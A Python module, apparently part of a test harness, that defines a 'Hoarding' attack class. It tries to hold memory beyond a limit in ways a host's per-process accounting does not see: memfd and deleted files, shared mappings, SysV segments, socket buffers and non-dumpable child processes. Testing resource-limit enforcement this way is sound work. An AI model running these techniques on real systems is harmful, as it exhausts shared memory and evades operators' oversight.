"""Keeps more memory than its limit where its processes do not show it, in the way that is its target."""

import ctypes
import mmap
import os
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from attack import Attack

C = ctypes.CDLL(None, use_errno=True)
MEGABYTE = 1 << 20
SHARE = 60  # megabytes in each place
SOCKET_SHARE = 25  # megabytes in the sockets that one process may open
PLACES = 10
FOUND = 2.0  # seconds in which the host looks several times
NOT_DUMPABLE = 4, 0  # an option of prctl(2) and its value


class Hoarding(Attack):
    def attempt(self) -> str:
        with suppress(OSError, ValueError):
            getattr(self, self.target)()
            time.sleep(FOUND)
            return f"{SHARE * PLACES} megabytes"
        return ""

    def nameless_files(self) -> None:
        for number in range(PLACES):
            self._fill(os.memfd_create(str(number)))

    def deleted_files(self) -> None:
        for number in range(PLACES):
            path = Path(("/tmp", "/dev/shm")[number % 2], "hoard")
            descriptor = os.open(path, os.O_RDWR | os.O_CREAT)
            path.unlink()
            with suppress(OSError):  # the folder is full
                self._fill(descriptor)

    def shared_mappings(self) -> None:
        self._in_children(lambda: self._forget(mmap.mmap(-1, SHARE * MEGABYTE)))

    def mapped_zeros(self) -> None:
        descriptor = os.open("/dev/zero", os.O_RDWR)
        self._in_children(lambda: self._forget(mmap.mmap(descriptor, SHARE * MEGABYTE)))

    def segments(self) -> None:
        C.shmat.restype = ctypes.c_void_p
        for _ in range(PLACES):
            number = C.shmget(0, SHARE * MEGABYTE, 0o600)
            if number < 0:
                raise OSError
            place = C.shmat(number, None, 0)
            ctypes.memset(place, 1, SHARE * MEGABYTE)
            C.shmdt(ctypes.c_void_p(place))

    def sockets(self) -> None:
        self._in_children(self._fill_sockets)

    def secret_processes(self) -> None:
        self._in_children(self._hide)

    def _fill(self, descriptor: int) -> None:
        for _ in range(SHARE):
            os.write(descriptor, bytes(MEGABYTE))

    def _forget(self, memory: mmap.mmap) -> object:
        """Fill shared memory, and remove it from this process without freeing it."""
        for _ in range(SHARE):
            memory.write(bytes(MEGABYTE))
        memory.madvise(mmap.MADV_DONTNEED)
        return memory

    def _fill_sockets(self) -> object:
        pairs, left = [], SOCKET_SHARE * MEGABYTE
        while left > 0:
            pair = socket.socketpair()
            pairs.append(pair)
            pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * MEGABYTE)
            pair[0].setblocking(False)
            with suppress(BlockingIOError):
                while True:
                    left -= pair[0].send(bytes(1 << 16))
        return pairs

    def _hide(self) -> object:
        C.prctl(*NOT_DUMPABLE, 0, 0, 0)
        return os.urandom(MEGABYTE) * SHARE

    def _in_children(self, hoard: Callable[[], object]) -> None:
        """Hoard a share in each of several child processes, and raise an error if one of them cannot."""
        done, told = os.pipe()
        for _ in range(PLACES):
            if os.fork() == 0:
                with suppress(OSError, ValueError):
                    kept = hoard()
                    os.write(told, b"x")
                    time.sleep(600)
                    del kept
                os._exit(1)
        os.close(told)
        if sum(len(os.read(done, 1)) for _ in range(PLACES)) < PLACES:
            raise OSError
